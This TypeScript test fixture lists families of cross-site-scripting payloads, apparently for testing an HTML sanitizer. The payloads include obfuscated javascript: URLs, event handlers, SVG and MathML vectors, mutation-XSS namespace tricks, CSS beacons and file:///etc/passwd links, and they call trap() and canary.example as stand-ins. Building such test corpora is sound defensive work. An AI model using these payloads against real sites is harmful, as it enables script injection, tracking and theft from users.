import type { Family } from './families.ts';

const T = 'trap()';

export const families1to25: Family[] = [
  {
    number: 1,
    name: 'plain script',
    payloads: [
      `<script>${T}</script>`,
      `<p>通<ScRiPt>${T}</sCrIpT>知</p>`,
      `<b><script type=module>${T}</script></b>`,
      `<script type="application/json">{"a":1}</script>文`,
      `<script src=//canary.example/x.js />`,
      `<p>文<script>${T}`,
    ],
  },
  {
    number: 2,
    name: 'script by broken tags',
    payloads: [
      `<scr<script>ipt>${T}</scr</script>ipt>`,
      `<<script>${T}//<</script>`,
      `<script/x="</script>"//>${T}</script>`,
      `<p title="<script>${T}</script>">文</p>`,
      `<script\n>${T}</script\n>`,
      `<img "><script>${T}</script>">`,
    ],
  },
  {
    number: 3,
    name: 'event handlers',
    payloads: [
      `<img src=x onerror=${T}>`,
      `<p onclick=${T} onmouseover='${T}'>文</p>`,
      `<a/onfocus=${T}/href="#">文</a>`,
      `<td onload=${T}>x</td><table onclick=${T}><tr ONCLICK=${T}><td onclick\n=\n${T}>x`,
      `<b onclick="1" onclick=${T} oNcLiCk=${T}>文</b>`,
      `<time onbeforetoggle=${T} onwheel=${T} onpointerenter=${T}>1</time>`,
    ],
  },
  {
    number: 5,
    name: 'javascript: links',
    payloads: [
      `<a href="javascript:${T}">x</a>`,
      `<a href=" JaVaScRiPt:${T}">x</a>`,
      `<a href="java\tscr\nipt:${T}">x</a>`,
      `<a href="&#106;avascript&colon;${T}">x</a>`,
      `<a href="\u0001javascript:${T}">x</a>`,
      `<a href="\u00a0javascript:${T}">x</a><a href="\u2028javascript:${T}">y</a>`,
      `<a href="java\u0000script:${T}">x</a>`,
      `<a href="javascript&Tab;:${T}">x</a><a href="javascript://canary.example/%0a${T}">y</a>`,
    ],
  },
  {
    number: 6,
    name: 'other script schemes',
    payloads: [
      `<a href="vbscript:${T}">x</a>`,
      `<a href="data:text/html,<script>${T}</script>">x</a>`,
      `<a href="data:image/svg+xml;base64,PHN2Zy8+">x</a>`,
      `<a href="blob:https://www.qinghe.gov.cn/1">x</a><a href="filesystem:https://a.example/x">y</a>`,
      `<a href="view-source:javascript:${T}">x</a><a href="feed:javascript:${T}">y</a><a href="jar:https://a.example!/x">z</a>`,
      `<img src="data:text/html;base64,PHNjcmlwdD4=">`,
      `<a href="intent://a#Intent;end">x</a><a href="tel:110">y</a><a href="ftp://a.example/">z</a>`,
    ],
  },
  {
    number: 7,
    name: 'privileged schemes',
    payloads: [
      '<a href="chrome-extension://abc/library.html">x</a>',
      '<img src="moz-extension://abc/icon.png">',
      '<a href="about:config">x</a><a href="resource://gre/">y</a><a href="chrome://settings">z</a>',
      '<a href="file:///etc/passwd">x</a><img src="file:///etc/passwd">',
    ],
  },
  {
    number: 8,
    name: 'user names and look-alike addresses',
    payloads: [
      '<a href="https://www.gov.cn@canary.example/">x</a>',
      '<a href="https://user:pass@www.qinghe.gov.cn/">x</a>',
      '<a href="https:\\\\canary.example\\x">x</a>',
      '<a href="//www.gov.cn:80@canary.example">x</a><img src="//a:b@canary.example/1.png">',
      '<a href="https://xn--fiq228c.example./">x</a><a href="https://\u202enc.vog/">y</a>',
    ],
  },
  {
    number: 9,
    name: 'frames and plugins',
    payloads: [
      '<iframe src="//canary.example"></iframe>',
      `<iframe srcdoc="<script>${T}</script>" sandbox="allow-scripts"></iframe>`,
      '<object data="data:text/html,x"><embed src=//canary.example></object><applet code=x></applet>',
      '<frameset><frame src=javascript:trap()></frameset><portal src=//canary.example></portal><fencedframe></fencedframe>',
    ],
  },
  {
    number: 10,
    name: 'HTML inside attributes',
    payloads: [
      `<iframe srcdoc="&lt;img src=x onerror=${T}&gt;">`,
      `<p data-html="<img src=x onerror=${T}>" alt="&amp;lt;script&amp;gt;">文</p>`,
      `<img src=1.png alt="<img src=x onerror=${T}>">`,
    ],
  },
  {
    number: 11,
    name: 'base',
    payloads: [
      '<base href="https://canary.example/"><a href="x.html">x</a>',
      '<p>文</p><base target=_top><img src="1.png">',
    ],
  },
  {
    number: 12,
    name: 'meta',
    payloads: [
      '<meta http-equiv=refresh content="0;url=javascript:trap()">',
      '<meta name=referrer content=unsafe-url><meta http-equiv="Content-Security-Policy" content="">',
      '<noscript><meta http-equiv=refresh content="0;url=//canary.example"></noscript>',
    ],
  },
  {
    number: 13,
    name: 'link elements',
    payloads: [
      '<link rel=stylesheet href=//canary.example/x.css><link rel=preload as=image href=//canary.example/1>',
      '<p><link rel=dns-prefetch href=//canary.example><link rel=modulepreload href=//canary.example/x.js></p>',
    ],
  },
  {
    number: 14,
    name: 'forms',
    payloads: [
      '<form action="javascript:trap()"><input type=submit></form>',
      '<form id=f><button formaction=javascript:trap() form=f>按</button></form><input form=f type=image src=//canary.example>',
      '<form><form><input name=password autocomplete=current-password></form><isindex action=x>',
      '<select><option>一</select><textarea>文</textarea><label for=a>名</label>',
    ],
  },
  {
    number: 15,
    name: 'attributes that act without a click',
    payloads: [
      `<p tabindex=1 autofocus onfocus=${T}>文</p>`,
      '<div contenteditable accesskey=x draggable=true>文</div>',
      '<a href=# ping=//canary.example target=_blank rel=opener download>文</a>',
    ],
  },
  {
    number: 16,
    name: 'style elements',
    payloads: [
      '<style>@import "//canary.example/x.css"; p{background:url(//canary.example)}</style>',
      '<style>p[title^=a]{background:url(//canary.example/a)}</style><p title="</style><script>trap()</script>">文',
      '<style><!--</style><img src=x onerror=trap()>--></style>',
    ],
  },
  {
    number: 17,
    name: 'style attributes',
    payloads: [
      '<p style="background:url(//canary.example)">文</p>',
      '<div style="position:fixed;inset:0;opacity:0;z-index:9999"><a href=//canary.example>盖</a></div>',
      '<ul style="list-style:url(//canary.example)"><li style="content:\\75rl(//canary.example)">文</ul>',
    ],
  },
  {
    number: 18,
    name: 'old CSS and presentational attributes',
    payloads: [
      '<p style="width:expression(trap())">文</p><p style="behavior:url(x.htc)">文</p>',
      '<table background=//canary.example bgcolor=red><tr><td background="javascript:trap()">文</table>',
      '<p style="-moz-binding:url(//canary.example#x)">文</p><p style="width:ｅxpression(trap())">文</p>',
    ],
  },
  {
    number: 19,
    name: 'pictures as beacons',
    payloads: [
      '<img src=//canary.example/1.gif width=1 height=1>',
      '<img srcset="//canary.example/2x 2x" sizes=100vw src=1.png lowsrc=//canary.example dynsrc=x longdesc=y>',
      '<picture><source srcset=//canary.example><img src=1.png></picture><video poster=//canary.example></video>',
      '<audio src=//canary.example autoplay></audio><input type=image src=//canary.example><body background=//canary.example>',
    ],
  },
  {
    number: 20,
    name: 'referrer',
    payloads: [
      '<img src=//canary.example/1.png referrerpolicy=unsafe-url crossorigin=use-credentials>',
      '<a href=//canary.example referrerpolicy=unsafe-url ping="/x" attributionsrc>文</a>',
    ],
  },
  {
    number: 22,
    name: 'SVG',
    payloads: [
      `<svg onload=${T}><script>${T}</script></svg>`,
      `<svg><a><set attributeName=href to=javascript:${T} /><text>文</text></a></svg>`,
      `<svg><animate onbegin=${T} attributeName=x dur=1s></svg>`,
      `<svg><foreignObject><p onclick=${T}>文</p></foreignObject><use href="data:image/svg+xml,<svg id=x></svg>#x"/></svg>`,
      '<svg><image href=//canary.example /><handler>x</handler><style>p{}</style></svg>',
    ],
  },
  {
    number: 23,
    name: 'SVG as a picture',
    payloads: [
      '<img src="data:image/svg+xml,<svg xmlns=%22http://www.w3.org/2000/svg%22 onload=%22trap()%22/>">',
      '<img src="DATA:IMAGE/SVG+XML;base64,PHN2Zy8+"><embed src="data:image/svg+xml,x">',
      '<img src="data:image/png,notbase64"><img src="data:image/png;base64,AA==<svg">',
    ],
  },
  {
    number: 24,
    name: 'MathML',
    payloads: [
      '<math><maction actiontype="statusline#javascript:trap()">文</maction></math>',
      '<math href="javascript:trap()"><mi xlink:href="javascript:trap()">x</mi></math>',
      '<math><annotation-xml encoding="text/html"><script>trap()</script></annotation-xml></math>',
    ],
  },
  {
    number: 25,
    name: 'namespace confusion',
    payloads: [
      '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=trap()&gt;">',
      '<svg><desc><svg><p><style><g title="</style><img src onerror=trap()>">',
      '<form><math><mtext></form><form><mglyph><style></math><img src onerror=trap()>',
      '<svg></p><style><a id="</style><img src=1 onerror=trap()>">',
    ],
  },
];
